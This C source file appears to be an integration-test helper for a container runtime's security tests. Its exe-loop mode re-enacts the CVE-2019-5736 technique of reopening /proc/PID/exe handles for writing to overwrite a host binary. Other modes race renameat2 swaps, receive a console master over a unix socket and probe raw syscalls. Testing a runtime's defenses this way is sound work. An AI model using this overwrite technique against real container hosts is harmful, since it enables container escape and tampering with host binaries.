/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * attack: a static helper for tests/integration/security. Some commands run inside a
 * container as the attacker, others on the host as a racing "second container".
 *
 *   attack exe-loop REPORT SECONDS   (container) CVE-2019-5736: scan /proc for processes whose
 *                                    exe is not one of the image's binaries; try to open it for
 *                                    writing, keep an O_PATH fd, and keep trying to reopen that fd
 *                                    through /proc/self/fd/N for writing. Any write appends
 *                                    "PWNED". REPORT gets one line per event and a summary.
 *   attack swap A B SECONDS          (host) renameat2(RENAME_EXCHANGE) A and B in a loop
 *   attack recvtty SOCK REPORT       (host) receive one console master on the unix socket SOCK,
 *                                    write what it is to REPORT, hold it until SIGTERM
 *   attack rawsys NR...              raw syscall(NR, 0, 0, 0, 0, 0, 0): "rawsys.NR=ERRNO-NAME"
 *
 * Statically linked like the probe, so it runs in the busybox rootfs.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#include "util/util.h"

#define MAX_HELD 256

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static const char *ename(int e)
{
	switch (e) {
	case 0:
		return "0";
	case EPERM:
		return "EPERM";
	case EACCES:
		return "EACCES";
	case ENOENT:
		return "ENOENT";
	case ETXTBSY:
		return "ETXTBSY";
	case ENOSYS:
		return "ENOSYS";
	case ENXIO:
		return "ENXIO";
	case EFAULT:
		return "EFAULT";
	case EINVAL:
		return "EINVAL";
	case EBADF:
		return "EBADF";
	default:
		return "other";
	}
}

struct held {
	int fd;
	int pid;
	int done;
};

struct exe_attack {
	FILE *report;
	struct stat own[4];
	size_t n_own;
	struct held held[MAX_HELD];
	size_t n_held;
	long seen, denied, writes;
};

static int is_own(const struct exe_attack *a, const struct stat *st)
{
	for (size_t i = 0; i < a->n_own; i++)
		if (a->own[i].st_dev == st->st_dev && a->own[i].st_ino == st->st_ino)
			return 1;
	return 0;
}

static int is_held(const struct exe_attack *a, int pid)
{
	for (size_t i = 0; i < a->n_held; i++)
		if (a->held[i].pid == pid)
			return 1;
	return 0;
}

static void append_pwned(struct exe_attack *a, int fd, const char *how, int pid)
{
	if (lseek(fd, 0, SEEK_END) >= 0 && write(fd, "PWNED\n", 6) == 6) {
		a->writes++;
		fprintf(a->report, "WRITE %s pid=%d\n", how, pid);
		fflush(a->report);
	}
}

/* One pid: a direct write open, then an O_PATH fd kept for later reopening. */
static void exe_try_pid(struct exe_attack *a, int pid)
{
	char path[64], target[PATH_MAX];
	struct stat st;
	ssize_t n;
	int fd;

	if (pid == getpid() || is_held(a, pid))
		return;
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0) {
		if (errno == EACCES || errno == EPERM)
			a->denied++;
		return;
	}
	if (fstat(fd, &st) < 0 || is_own(a, &st) || a->n_held >= MAX_HELD) {
		close(fd);
		return;
	}
	a->seen++;
	n = readlink(path, target, sizeof(target) - 1);
	target[n > 0 ? n : 0] = '\0';
	fprintf(a->report, "HELD pid=%d exe=%s ino=%lu\n", pid, target, (unsigned long)st.st_ino);
	fflush(a->report);
	a->held[a->n_held++] = (struct held){.fd = fd, .pid = pid};
	int w = open(path, O_WRONLY | O_CLOEXEC);
	if (w >= 0) {
		append_pwned(a, w, "direct", pid);
		close(w);
	}
}

static void exe_reopen_held(struct exe_attack *a)
{
	for (size_t i = 0; i < a->n_held; i++) {
		char path[64];
		int w;

		if (a->held[i].done)
			continue;
		snprintf(path, sizeof(path), "/proc/self/fd/%d", a->held[i].fd);
		w = open(path, O_WRONLY | O_CLOEXEC);
		if (w < 0)
			continue;
		append_pwned(a, w, "reopen", a->held[i].pid);
		a->held[i].done = 1;
		close(w);
	}
}

static int cmd_exe_loop(int argc, char **argv)
{
	static const char *const own[] = {"/bin/busybox", "/probe", "/attack", "/proc/self/exe"};
	struct exe_attack a = {0};
	double end;

	if (argc < 2)
		return 2;
	end = now() + strtod(argv[1], NULL);
	a.report = fopen(argv[0], "we");
	if (!a.report)
		return 1;
	for (size_t i = 0; i < sizeof(own) / sizeof(own[0]); i++)
		if (stat(own[i], &a.own[a.n_own]) == 0)
			a.n_own++;
	fprintf(a.report, "START\n");
	fflush(a.report);
	while (now() < end) {
		DIR *d = opendir("/proc");
		struct dirent *de;

		while (d && (de = readdir(d))) {
			int pid = (int)strtol(de->d_name, NULL, 10);
			if (pid > 0)
				exe_try_pid(&a, pid);
		}
		if (d)
			closedir(d);
		exe_reopen_held(&a);
	}
	fprintf(a.report, "DONE seen=%ld held=%zu denied=%ld writes=%ld\n", a.seen, a.n_held, a.denied, a.writes);
	fclose(a.report);
	return 0;
}

static int cmd_swap(int argc, char **argv)
{
	double end;
	long n = 0;

	if (argc < 3)
		return 2;
	end = now() + strtod(argv[2], NULL);
	while (now() < end) {
		if (syscall(SYS_renameat2, AT_FDCWD, argv[0], AT_FDCWD, argv[1], 2 /* RENAME_EXCHANGE */) < 0) {
			perror("renameat2");
			return 1;
		}
		n++;
	}
	/* an even count leaves A and B where they started */
	if (n % 2)
		syscall(SYS_renameat2, AT_FDCWD, argv[0], AT_FDCWD, argv[1], 2);
	printf("swaps=%ld\n", n + n % 2);
	return 0;
}

static int recv_fd(int conn)
{
	char buf[256], cbuf[CMSG_SPACE(sizeof(int))];
	struct iovec iov = {.iov_base = buf, .iov_len = sizeof(buf)};
	struct msghdr msg = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = cbuf, .msg_controllen = sizeof(cbuf)};
	struct cmsghdr *c;
	int fd = -1;

	if (recvmsg(conn, &msg, MSG_CMSG_CLOEXEC) < 0)
		return -1;
	c = CMSG_FIRSTHDR(&msg);
	if (c && c->cmsg_level == SOL_SOCKET && c->cmsg_type == SCM_RIGHTS)
		memcpy(&fd, CMSG_DATA(c), sizeof(int));
	return fd;
}

static int cmd_recvtty(int argc, char **argv)
{
	struct sockaddr_un sa = {.sun_family = AF_UNIX};
	struct statfs sfs;
	struct stat st;
	FILE *rep;
	int s, conn, fd;
	unsigned ptn = 0;

	if (argc < 2 || strlen(argv[0]) >= sizeof(sa.sun_path))
		return 2;
	memcpy(sa.sun_path, argv[0], strlen(argv[0]) + 1);
	s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (s < 0 || bind(s, (struct sockaddr *)&sa, sizeof(sa)) < 0 || listen(s, 1) < 0)
		return 1;
	conn = accept4(s, NULL, NULL, SOCK_CLOEXEC);
	fd = conn < 0 ? -1 : recv_fd(conn);
	rep = fopen(argv[1], "we");
	if (!rep)
		return 1;
	if (fd < 0 || fstat(fd, &st) < 0 || fstatfs(fd, &sfs) < 0) {
		fprintf(rep, "error=%s\n", strerror(errno));
		fclose(rep);
		return 1;
	}
	fprintf(rep, "chr=%d\nrdev=%u:%u\nfsmagic=0x%lx\nptn=%d\n", S_ISCHR(st.st_mode) ? 1 : 0, major(st.st_rdev),
		minor(st.st_rdev), (unsigned long)sfs.f_type, ioctl(fd, TIOCGPTN, &ptn) == 0 ? (int)ptn : -1);
	fclose(rep);
	/* hold the master (the container's terminal hangs up when it closes) */
	for (int i = 0; i < 600; i++) {
		char buf[512];
		if (read(fd, buf, sizeof(buf)) <= 0)
			sleep(1);
	}
	return 0;
}

static int cmd_rawsys(int argc, char **argv)
{
	for (int i = 0; i < argc; i++) {
		long nr = strtol(argv[i], NULL, 10), r;

		errno = 0;
		r = syscall(nr, 0, 0, 0, 0, 0, 0);
		printf("rawsys.%ld=%s\n", nr, r < 0 ? ename(errno) : "0");
	}
	return 0;
}

int main(int argc, char **argv)
{
	if (argc < 2) {
		fputs("usage: attack exe-loop REPORT SECONDS | swap A B SECONDS | recvtty SOCK REPORT | rawsys NR...\n",
		      stderr);
		return 2;
	}
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (strcmp(argv[1], "exe-loop") == 0)
		return cmd_exe_loop(argc - 2, argv + 2);
	if (strcmp(argv[1], "swap") == 0)
		return cmd_swap(argc - 2, argv + 2);
	if (strcmp(argv[1], "recvtty") == 0)
		return cmd_recvtty(argc - 2, argv + 2);
	if (strcmp(argv[1], "rawsys") == 0)
		return cmd_rawsys(argc - 2, argv + 2);
	fprintf(stderr, "attack: unknown command '%s'\n", argv[1]);
	return 2;
}
